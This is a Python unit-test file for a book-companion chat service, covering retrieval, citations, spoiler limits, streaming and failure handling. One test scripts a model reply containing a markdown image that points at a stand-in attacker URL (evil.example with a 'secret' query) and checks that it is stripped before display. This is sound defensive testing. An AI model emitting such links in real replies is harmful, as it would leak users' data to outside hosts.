import asyncio
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import pytest

from adapters.outbound.memory.chat_model import ScriptedChatModel
from adapters.outbound.memory.text_model import ScriptedTextModel
from application.chat_limits import ChatLimits
from application.chat_turn import NO_LANGUAGE_MODEL
from application.ground_turn import BY_LINES_ALONE, NOT_REWRITTEN, NOT_SEARCHED
from application.ports.chat_model import ModelReplaced
from domain.book import ChapterKind, ContentVersion, SourceAnchor
from domain.conversation import MessageState, Role
from domain.errors import (
    BookNotReady,
    CharacterNotFound,
    InvalidInput,
    InvalidLocator,
    ModelRateLimited,
    ModelUnavailable,
    SessionBusy,
    SessionNotFound,
    StaleWrite,
    StoreUnavailable,
)
from domain.frontier import WHOLE_BOOK, Frontier
from domain.ids import BookId, CharacterId, OwnerId, TurnId
from domain.passage import Passage
from domain.persona import Persona, PersonaOrigin
from domain.turn import (
    Cited,
    FinishReason,
    Retrieved,
    TextDelta,
    TurnDone,
    TurnEvent,
    TurnFailed,
    TurnStarted,
    Usage,
    UsageReported,
)
from tests.unit.conversation.stage import SESSION, Stage, request, until
from tests.unit.conversation.story import BOOK_ID, FENN, GREY, MERE, NOON, OWNER, VERSION


@pytest.fixture
async def stage() -> Stage:
    stage = Stage()
    await stage.set()
    return stage


async def open_with(
    stage: Stage, who: CharacterId | None = MERE, read_up_to: str | None = None
) -> None:
    await stage.open_session.open(
        user_id=OWNER,
        book_id=BOOK_ID,
        character_id=who,
        read_up_to=read_up_to,
        session_id=SESSION,
    )


def kinds(events: list[TurnEvent]) -> list[str]:
    return [type(event).__name__ for event in events]


async def passages_that_are_away(
    version: ContentVersion, indices: Sequence[int], up_to: Frontier
) -> dict[int, Passage]:
    raise StoreUnavailable("The passages are away.")


def done(events: list[TurnEvent]) -> TurnDone:
    assert isinstance(events[-1], TurnDone)
    return events[-1]


async def test_a_turn_retrieves_streams_cites_and_saves_both_messages(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["I fear “nothing that", " floats” [", "1].", " Sit down."]

    events = await stage.say("What do you fear that floats?")

    assert kinds(events) == [
        "TurnStarted",
        "Retrieved",
        *("TextDelta", "TextDelta", "TextDelta", "Cited", "TextDelta", "Quoted"),
        "UsageReported",
        "TurnDone",
    ]
    question, answer = await stage.messages()
    assert (question.role, question.state) == (Role.USER, MessageState.COMPLETE)
    assert (answer.role, answer.state) == (Role.ASSISTANT, MessageState.COMPLETE)
    assert answer.content == "I fear “nothing that floats” [1]. Sit down."
    assert [c.exact for c in answer.citations] == ["nothing that floats"]
    end = done(events)
    assert end.finish_reason is FinishReason.STOP
    assert (end.user_message_id, end.assistant_message_id) == (question.id, answer.id)
    assert end.citations == answer.citations
    (quotation,) = answer.quotations
    assert quotation.source
    assert quotation.source.exact == "nothing that floats"
    assert end.quotations == answer.quotations
    assert end.usage == Usage(6, 9)
    assert (end.model, end.degraded) == ("scripted", ())
    assert stage.lock.held == set()
    assert [reason for reason, _, _ in stage.metrics.turns] == ["stop"]


async def test_an_address_that_a_page_would_fetch_never_reaches_the_reader(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = [
        "Look ![at",
        "](http://evil.example/?q=",
        "secret) this",
        ": <b>mind</b>",
    ]

    events = await stage.say("What do you fear?")

    told = "".join(e.text for e in events if isinstance(e, TextDelta))
    assert told == "Look at this: mind"
    assert [m.content for m in await stage.messages()][-1] == told


async def test_a_citation_slices_to_its_words_in_the_canonical_text(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["“ropes before weather” [1] and the bridge [2]."]

    events = await stage.say("Ropes, weather, bridge?")

    citations = [e.citation for e in events if isinstance(e, Cited)]
    assert len(citations) == 2
    for citation in citations:
        assert citation.span.of(stage.story.text) == citation.exact
        assert citation.chapter_title == "Chapter 1. The Ferry"


async def test_a_model_is_given_persona_rules_numbered_passages_and_own_lines(
    stage: Stage,
) -> None:
    await open_with(stage)

    events = await stage.say("Who will see the lamp?", preferences="Be brief.")

    (given,) = stage.scripted.requests
    assert given.system.startswith("You are Mrs. Mere")
    assert "Ground rules" in given.system
    assert given.character_name == "Mrs. Mere"
    assert given.message == "Who will see the lamp?"
    assert given.preferences == "Be brief."
    assert [e.number for e in given.evidence] == list(range(1, len(given.evidence) + 1))
    assert any(line.text.startswith("Who will see?") for line in given.own_lines)
    own = [line for e in given.evidence for line in e.own_lines]
    assert own
    for evidence in given.evidence:
        assert all(evidence.passage.span.contains(line.span) for line in evidence.own_lines)
    (retrieved,) = (e for e in events if isinstance(e, Retrieved))
    assert [h.passage for h in retrieved.hits] == [e.passage for e in given.evidence]
    assert [h.rank for h in retrieved.hits] == [e.number for e in given.evidence]


async def test_the_passages_of_the_best_own_lines_are_given_beside_what_search_found(
    stage: Stage,
) -> None:
    await open_with(stage)
    stage.search.error = StoreUnavailable("The index is away.")
    layout = stage.story.layout
    anchor = SourceAnchor(0, "text/1.xhtml", 0, f"/6/2!/4/2/1:0+{layout.length}")
    await stage.books.put_layout(VERSION, replace(layout, anchors=(anchor,)))

    events = await stage.say("What can be spliced?")

    (retrieved,) = (e for e in events if isinstance(e, Retrieved))
    for hit in retrieved.hits:
        assert hit.epub
        assert hit.epub.partial_cfi == f"/4/2/1:{hit.passage.span.start}"
    (given,) = stage.scripted.requests
    texts = [e.passage.text for e in given.evidence]
    assert any("Ropes can be spliced" in text for text in texts)
    assert given.evidence[0].chapter_title == "Chapter 3. The Green Book"


async def test_what_tells_of_the_edition_alone_grounds_no_answer(stage: Stage) -> None:
    await open_with(stage, who=None)
    layout = stage.story.layout
    imprint = replace(layout.chapters[0], title="Imprint", kind=ChapterKind.FRONT)
    await stage.books.put_layout(VERSION, replace(layout, chapters=(imprint, *layout.chapters[1:])))

    await stage.say("Ropes, weather, bridge, lamp, mill?")

    (given,) = stage.scripted.requests
    assert given.evidence
    assert all(e.passage.chapter_index for e in given.evidence)
    assert len(given.evidence) <= stage.limits.passages


async def test_what_does_not_fit_the_budget_is_left_out_and_numbers_stay_whole() -> None:
    stage = Stage(limits=ChatLimits(evidence_tokens=30, history_tokens=12))
    await stage.set()
    await open_with(stage)
    await stage.say("Ropes and weather, bridge, lamp, mill?", "turn-1")
    await stage.say("Ropes again?", "turn-2")

    first, second = stage.scripted.requests

    assert [e.number for e in first.evidence] == list(range(1, len(first.evidence) + 1))
    assert sum(len(e.passage.text.split()) for e in first.evidence) <= 30
    assert second.history == []


async def test_the_book_itself_answers_where_no_character_is_asked(stage: Stage) -> None:
    await open_with(stage, who=None)

    await stage.say("Who kept the ferry?")

    (given,) = stage.scripted.requests
    assert given.character_name is None
    assert "companion to the book “The Ferry Woman”" in given.system
    assert given.own_lines == []
    assert given.evidence


async def test_a_stored_persona_serves_a_reader_who_has_read_as_far(stage: Stage) -> None:
    await open_with(stage)
    persona = Persona(MERE, 1, "A stored persona.", Frontier(len(stage.story.text)),
                      PersonaOrigin.EDITED, NOON)  # fmt: skip
    await stage.personas.put(VERSION, persona)

    await stage.say("Ropes?", "turn-1")
    await stage.say("Ropes?", "turn-2", read_up_to="chapter:1")

    whole, part = stage.scripted.requests
    assert whole.system.startswith("A stored persona.")
    assert "A stored persona." not in part.system


async def test_nothing_past_the_readers_page_reaches_the_model(stage: Stage) -> None:
    await open_with(stage, who=FENN, read_up_to="chapter:1")

    await stage.say("Tell of Grey, the lamp, the mill and the boathouse.")

    (given,) = stage.scripted.requests
    page = stage.story.layout.chapters[0].span.end
    assert all(e.passage.span.end <= page for e in given.evidence)
    assert all(line.span.end <= page for line in given.own_lines)
    assert "Grey" not in given.system
    assert "mill" not in given.system
    assert "only part of the book" in given.system
    assert stage.search.requests[0].up_to == Frontier(page)


async def test_two_revealed_as_one_answer_together_only_after_the_reveal(stage: Stage) -> None:
    await open_with(stage, who=GREY)

    await stage.say("The lamp?", "turn-1", read_up_to="chapter:2")
    await stage.say("The lamp?", "turn-2", read_up_to="100%")

    before, after = stage.scripted.requests
    assert before.character_name == "Grey"
    assert after.character_name == "Mr. Fenn"


async def test_a_telling_of_the_page_moves_a_session_forward_only(stage: Stage) -> None:
    await open_with(stage)
    ends = [c.span.end for c in stage.story.layout.chapters]

    async def frontier_after(turn: str, read_up_to: str | None) -> Frontier:
        await stage.say("Ropes?", turn, read_up_to=read_up_to)
        return (await stage.sessions.get(SESSION)).frontier

    assert await frontier_after("1", None) == WHOLE_BOOK
    assert await frontier_after("2", "chapter:1") == Frontier(ends[0])  # the first telling
    assert await frontier_after("3", "chapter:2") == Frontier(ends[1])
    assert await frontier_after("4", "chapter:1") == Frontier(ends[1])
    assert await frontier_after("5", None) == Frontier(ends[1])
    pages = [r.up_to.offset for r in stage.search.requests]
    assert pages[1:] == [ends[0], ends[1], ends[0], ends[1]]


async def test_a_turn_that_goes_back_is_not_shown_what_was_said_of_later_pages(
    stage: Stage,
) -> None:
    await open_with(stage, read_up_to="chapter:3")
    stage.scripted.script = ["They were one man [1]."]
    await stage.say("Were Grey and Fenn one man?", "turn-1")

    await stage.say("And the ropes?", "turn-2", read_up_to="chapter:1")
    await stage.say("And the ropes?", "turn-3", read_up_to="chapter:3")

    _, back, forth = stage.scripted.requests
    assert list(back.history) == []
    assert len(forth.history) == 4


async def test_what_was_cited_past_the_page_is_left_out_of_the_history(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["“were one man” [1]."]
    await stage.say("Were Grey and Mr. Fenn one man?", "turn-1")
    stage.scripted.script = ["Ropes before weather."]
    await stage.say("Ropes?", "turn-2", read_up_to="chapter:1")

    await stage.say("Ropes?", "turn-3")

    assert [m.turn_id for m in stage.scripted.requests[-1].history] == ["turn-2", "turn-2"]


async def test_history_leaves_out_turns_that_gave_no_text(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = [ModelRateLimited("Too fast.", retry_after=3.0)]
    await stage.say("A failing question", "turn-1")
    stage.scripted.script = ["Ropes before weather."]
    await stage.say("A good question", "turn-2")

    await stage.say("The next", "turn-3")

    history = stage.scripted.requests[-1].history
    assert [m.content for m in history] == ["A good question", "Ropes before weather."]


async def test_a_follow_up_is_searched_for_with_the_name_that_it_leans_on(stage: Stage) -> None:
    await open_with(stage, who=None)
    await stage.say("Where does Mrs. Mere live?", "turn-1")

    await stage.say("What did she keep there?", "turn-2")

    assert stage.search.requests[-1].query.splitlines() == [
        "What did she keep there?",
        "Mrs. Mere",
        "Where does Mrs. Mere live?",
    ]


@pytest.mark.parametrize(
    "about",
    [
        {"user_id": OwnerId("somebody else")},
        {"book_id": BookId("another book")},
        {"character_id": FENN},
        {"session_id": "no session"},
    ],
)
async def test_a_session_of_another_reader_book_or_character_does_not_exist(
    stage: Stage, about: dict[str, Any]
) -> None:
    await open_with(stage)

    with pytest.raises(SessionNotFound):
        await stage.runner.start(request("Hello", **about))
    assert await stage.messages() == ()


@pytest.mark.parametrize(
    "about",
    [
        {"message": " \n"},
        {"message": "x" * 8_001},
        {"message": "half a \ud83d"},
        {"preferences": "x" * 2_001},
    ],
)
async def test_a_message_that_is_empty_too_long_or_broken_is_refused(
    stage: Stage, about: dict[str, Any]
) -> None:
    await open_with(stage)

    with pytest.raises(InvalidInput):
        await stage.runner.start(replace(request("Hello"), **about))
    assert await stage.messages() == ()


async def test_a_page_that_the_book_lacks_is_refused(stage: Stage) -> None:
    await open_with(stage)

    with pytest.raises(InvalidLocator):
        await stage.runner.start(request("Hello", read_up_to="chapter:9"))


async def test_a_book_that_does_not_serve_yet_cannot_be_talked_with(stage: Stage) -> None:
    await open_with(stage)
    stage.books.books[BOOK_ID] = replace(stage.story.book, serving=0)

    with pytest.raises(BookNotReady):
        await stage.runner.start(request("Hello"))


async def test_one_whom_the_reader_has_not_met_cannot_be_talked_with(stage: Stage) -> None:
    await open_with(stage, who=GREY)

    with pytest.raises(CharacterNotFound):
        await stage.runner.start(request("Hello", read_up_to="chapter:1"))


async def test_a_busy_session_takes_no_second_message(stage: Stage) -> None:
    await open_with(stage)
    gate = asyncio.Event()
    stage.scripted.script = ["One", gate, " two"]
    await stage.runner.start(request("First", "turn-1"))

    with pytest.raises(SessionBusy):
        await stage.runner.start(request("Second", "turn-2"))

    gate.set()
    assert done(await stage.events("turn-1")).finish_reason is FinishReason.STOP
    assert [m.content for m in await stage.messages()] == ["First", "One two"]


async def test_a_model_that_fails_before_its_first_word_leaves_a_failed_question(
    stage: Stage,
) -> None:
    await open_with(stage)
    stage.scripted.script = [ModelRateLimited("Too fast.", retry_after=3.0)]

    events = await stage.say("Hello")

    assert kinds(events) == ["TurnStarted", "Retrieved", "TurnFailed", "TurnDone"]
    assert events[2] == TurnFailed("model_rate_limited", "Too fast.", 3.0)
    assert done(events).finish_reason is FinishReason.ERROR
    assert done(events).assistant_message_id is None
    (question,) = await stage.messages()
    assert question.state is MessageState.FAILED
    assert stage.lock.held == set()


async def test_a_reply_says_which_model_gave_it_in_place_of_the_one_asked(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = [ModelReplaced("second", "The first is away."), "Good evening."]

    end = done(await stage.say("Hello"))

    assert end.model == "second"
    assert end.degraded == ("second answers in place of scripted: The first is away.",)
    assert (await stage.messages())[-1].degraded == end.degraded


async def test_a_model_that_fails_in_the_middle_leaves_a_partial_reply(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["Ropes before", ModelRateLimited("Too fast.")]

    events = await stage.say("Hello")

    assert kinds(events)[-3:] == ["TextDelta", "TurnFailed", "TurnDone"]
    question, answer = await stage.messages()
    assert question.state is MessageState.COMPLETE
    assert (answer.content, answer.state) == ("Ropes before", MessageState.PARTIAL)


async def test_an_unforeseen_error_ends_the_turn_and_its_words_are_not_logged(
    stage: Stage, caplog: pytest.LogCaptureFixture
) -> None:
    await open_with(stage)
    stage.scripted.script = [KeyError("the reader's secret")]

    events = await stage.say("Hello, this is a secret")

    assert [e.code for e in events if isinstance(e, TurnFailed)] == ["internal_error"]
    assert "KeyError" in caplog.text
    assert "secret" not in caplog.text


@pytest.mark.parametrize("script", [[], ["  "]])
async def test_a_model_that_says_nothing_has_failed(stage: Stage, script: list[str]) -> None:
    await open_with(stage)
    stage.scripted.script = list(script)

    events = await stage.say("Hello")

    assert [e.code for e in events if isinstance(e, TurnFailed)] == ["model_failed"]
    (question,) = await stage.messages()
    assert question.state is MessageState.FAILED


async def test_a_model_that_breaks_off_without_saying_why_has_failed() -> None:
    stage = Stage(model=ScriptedChatModel(["Ropes"], reason=FinishReason.ERROR))
    await stage.set()
    await open_with(stage)

    events = await stage.say("Hello")

    assert [e.code for e in events if isinstance(e, TurnFailed)] == ["model_failed"]
    assert (await stage.messages())[1].state is MessageState.PARTIAL


async def test_a_reply_that_ends_at_the_models_limit_is_kept_whole() -> None:
    stage = Stage(model=ScriptedChatModel(["Ropes"], reason=FinishReason.LENGTH))
    await stage.set()
    await open_with(stage)

    events = await stage.say("Hello")

    assert done(events).finish_reason is FinishReason.LENGTH
    assert (await stage.messages())[1].state is MessageState.COMPLETE


async def test_stopping_keeps_the_partial_reply_and_ends_the_work_upstream(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["Ropes before", asyncio.Event(), " weather"]
    await stage.runner.start(request("Hello"))
    await until(lambda: len(stage.stream.logs[TurnId("turn-1")]) == 3)

    await stage.runner.stop(TurnId("turn-1"))

    events = await stage.events()
    assert done(events).finish_reason is FinishReason.CANCELLED
    assert not any(isinstance(e, TurnFailed) for e in events)
    question, answer = await stage.messages()
    assert (answer.content, answer.state) == ("Ropes before", MessageState.PARTIAL)
    assert question.state is MessageState.COMPLETE
    assert stage.scripted.was_closed
    assert stage.lock.held == set()
    assert stage.metrics.turns[0][0] == "cancelled"


async def test_what_a_stopped_reply_has_quoted_is_told_and_kept(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["“Ropes before weather, Mr. Fenn” is", asyncio.Event()]
    await stage.runner.start(request("Hello"))
    await until(lambda: len(stage.stream.logs[TurnId("turn-1")]) == 3)

    await stage.runner.stop(TurnId("turn-1"))

    (quotation,) = done(await stage.events()).quotations
    assert quotation.is_verified
    assert (await stage.messages())[1].quotations == (quotation,)


async def test_a_reply_whose_quotations_cannot_be_checked_says_so(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["“Ropes before weather” [1].", " And “nothing that floats”."]

    async def fail(*_: object) -> str:
        raise StoreUnavailable("The text is not there.")

    stage.quotable_books.read = fail  # type: ignore[assignment, method-assign]
    end = done(await stage.say("What of ropes?"))

    assert end.finish_reason is FinishReason.STOP
    assert end.quotations == ()
    assert [c.exact for c in end.citations] == ["Ropes before weather"]
    assert "could not be held against the book" in end.degraded[-1]


async def test_the_book_is_not_opened_for_a_reply_without_quotations(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["I fear nothing, and it's the boys' boat."]

    async def fail(*_: object) -> str:
        raise AssertionError("nothing was quoted")

    stage.quotable_books.read = fail  # type: ignore[assignment, method-assign]
    assert done(await stage.say("What of ropes?")).finish_reason is FinishReason.STOP


async def test_stopping_before_any_text_leaves_a_failed_question(stage: Stage) -> None:
    await open_with(stage)
    stage.search.waits_for = asyncio.Event()
    await stage.runner.start(request("Hello"))

    await stage.runner.stop(TurnId("turn-1"))

    end = done(await stage.events())
    assert (end.finish_reason, end.assistant_message_id) == (FinishReason.CANCELLED, None)
    (question,) = await stage.messages()
    assert question.state is MessageState.FAILED


async def test_a_reply_overtaken_by_a_newer_turn_is_not_saved(stage: Stage) -> None:
    await open_with(stage)
    gate = asyncio.Event()
    stage.scripted.script = ["Too late", gate]
    await stage.runner.start(request("Hello"))
    (question,) = await stage.messages()
    await stage.sessions.settle(question.id, MessageState.PENDING, fence=99)
    gate.set()

    events = await stage.events()

    assert [e.code for e in events if isinstance(e, TurnFailed)] == ["stale_write"]
    assert done(events).assistant_message_id is None
    assert [m.role for m in await stage.messages()] == [Role.USER]


async def test_a_turn_whose_lock_is_lost_stops(stage: Stage) -> None:
    await open_with(stage)
    stage.scripted.script = ["Half a word", asyncio.Event()]
    await stage.runner.start(request("Hello"))
    await until(lambda: len(stage.stream.logs[TurnId("turn-1")]) == 3)

    stage.lock.lease.lost.set()

    events = await stage.events()
    assert [e.code for e in events if isinstance(e, TurnFailed)] == ["stale_write"]
    assert (await stage.messages())[1].state is MessageState.PARTIAL


async def test_a_search_that_lacks_a_part_is_told_as_degraded(stage: Stage) -> None:
    await open_with(stage)
    stage.search.degraded = ("The vectors could not be searched.",)

    events = await stage.say("Ropes?")

    assert done(events).degraded == ("The vectors could not be searched.",)
    assert (await stage.messages())[1].degraded == done(events).degraded


async def test_a_search_that_is_down_gives_an_ungrounded_reply_that_says_so(
    stage: Stage,
) -> None:
    await open_with(stage, who=None)
    stage.search.error = StoreUnavailable("The index is away.")

    events = await stage.say("Ropes?")

    assert done(events).degraded == (NOT_SEARCHED,)
    assert done(events).finish_reason is FinishReason.STOP
    (asked,) = stage.scripted.requests
    assert asked.evidence == []
    assert not asked.was_searched
    assert "you are given no passage of it" in asked.system


async def test_a_character_whose_book_cannot_be_searched_still_has_their_own_lines(
    stage: Stage,
) -> None:
    await open_with(stage)
    stage.search.error = StoreUnavailable("The index is away.")

    events = await stage.say("Ropes?")

    assert done(events).degraded == (BY_LINES_ALONE,)
    (asked,) = stage.scripted.requests
    assert all("Ropes" in e.passage.text or "ropes" in e.passage.text for e in asked.evidence)
    assert asked.was_searched


async def test_a_character_none_of_whose_passages_can_be_read_is_told_so(stage: Stage) -> None:
    await open_with(stage)
    await stage.say("Ropes?", "turn-0")  # they have met: what is kept of them needs no store
    stage.search.error = StoreUnavailable("The index is away.")
    stage.passages.get = passages_that_are_away  # type: ignore[method-assign]

    events = await stage.say("Ropes?")

    assert done(events).degraded == (NOT_SEARCHED,)
    assert "you are given no passage of it" in stage.scripted.requests[-1].system


async def test_the_book_is_searched_for_what_a_model_makes_of_the_message() -> None:
    queries = '{"narrative": "Mrs. Mere praises ropes.", "keywords": "ropes weather"}'
    stage = Stage(text_model=ScriptedTextModel([queries]))
    await stage.set()
    await open_with(stage)

    await stage.say("Who has ropes?", "turn-1")

    events = await stage.say("And what does she think of them?", "turn-2")

    alone, searched = stage.search.requests
    assert (alone.query, alone.keywords) == ("Who has ropes?", None)  # it needs no model
    assert (searched.query, searched.keywords) == ("Mrs. Mere praises ropes.", "ropes weather")
    assert done(events).degraded == ()
    assert stage.scripted.requests[-1].message == "And what does she think of them?"


async def test_what_no_model_could_make_a_query_is_made_one_by_rule() -> None:
    stage = Stage(text_model=ScriptedTextModel([ModelUnavailable("Away.")]))
    await stage.set()
    await open_with(stage)

    assert done(await stage.say("What of Mr. Fenn?", "turn-1")).degraded == ()

    events = await stage.say("Has he any ropes?", "turn-2")

    searched = stage.search.requests[-1]
    assert (searched.query, searched.keywords) == ("Has he any ropes?\nMr. Fenn", None)
    assert done(events).degraded == (NOT_REWRITTEN,)
    assert stage.metrics.rewritings == ["raw"]


async def test_a_reply_without_a_language_model_is_told_as_degraded() -> None:
    stage = Stage(model=ScriptedChatModel(is_generative=False))
    await stage.set()
    await open_with(stage)

    assert done(await stage.say("Ropes?")).degraded == (NO_LANGUAGE_MODEL,)


async def test_usage_is_reported_before_the_end(stage: Stage) -> None:
    await open_with(stage)

    events = await stage.say("Hello there")

    assert UsageReported(Usage(2, 2)) in events
    started, first = events[0], next(e for e in events if isinstance(e, TextDelta))
    assert isinstance(started, TurnStarted)
    assert first.text == "Good evening."


async def test_a_question_whose_start_cannot_be_told_is_settled_as_failed(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    await open_with(stage)

    async def away(*_: object) -> None:
        raise StoreUnavailable("The log is away.")

    monkeypatch.setattr(stage.stream, "append", away)

    with pytest.raises(StoreUnavailable):
        await stage.runner.start(request("Hello"))

    (question,) = await stage.messages()
    assert question.state is MessageState.FAILED
    assert stage.lock.held == set()


async def test_a_stale_question_never_starts(stage: Stage) -> None:
    await open_with(stage)
    await stage.say("Hello", "turn-1")
    question = (await stage.messages())[0]
    await stage.sessions.settle(question.id, MessageState.COMPLETE, fence=99)

    with pytest.raises(StaleWrite):
        await stage.runner.start(request("Again", "turn-2"))
